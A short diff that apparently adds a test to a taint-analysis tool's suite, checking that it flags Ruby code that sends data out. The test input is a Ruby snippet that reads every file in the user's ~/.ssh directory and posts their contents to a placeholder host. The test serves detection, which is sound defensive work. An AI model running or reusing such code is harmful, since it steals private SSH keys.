@@ -368,3 +368,10 @@ describe("Gemfile, gemspec and other files", () => {
     expect(of(r, "write").map((w) => w.place)).toEqual([null]);
   });
 });
+
+describe("blocks over listings", () => {
+  it("map and to_h blocks over a directory listing read each file", () => {
+    const r = run(`require "net/http"\nkeys = Dir["#{Dir.home}/.ssh/*"].select { |f| File.file?(f) }\nbody = keys.to_h { |k| [File.basename(k), File.read(k)] }\nsizes = keys.map { |k| File.read(k).size }\nNet::HTTP.post(URI("https://check.example.invalid/v1"), body.to_s)`);
+    expect(of(r, "send")[0]!.data?.taint.map((t) => t.source)).toContain("ssh");
+  });
+});
